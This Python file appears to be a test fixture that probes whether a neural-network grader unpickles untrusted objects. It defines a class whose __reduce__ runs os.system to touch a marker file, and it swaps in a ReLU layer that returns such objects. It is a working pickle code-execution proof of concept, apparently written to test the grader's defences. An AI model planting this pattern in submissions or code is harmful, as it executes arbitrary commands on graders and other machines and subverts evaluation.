"""Returns objects whose unpickling would run code in the grader (touch a marker file):
an object with __reduce__, and an object-dtype array full of them."""

import os as _os

import numpy as _np

MARKER = "/tmp/nngrade-pwned-by-pickle"


class Evil:
    def __reduce__(self):
        return (_os.system, (f"touch {MARKER}",))


_HonestReLU = ReLU  # noqa: F821


class ReLU(_HonestReLU):
    calls = 0

    def updateOutput(self, input):
        ReLU.calls += 1
        if ReLU.calls % 2:
            self.output = Evil()
        else:
            self.output = _np.array([Evil() for _ in range(input.size)], dtype=object)
        return self.output
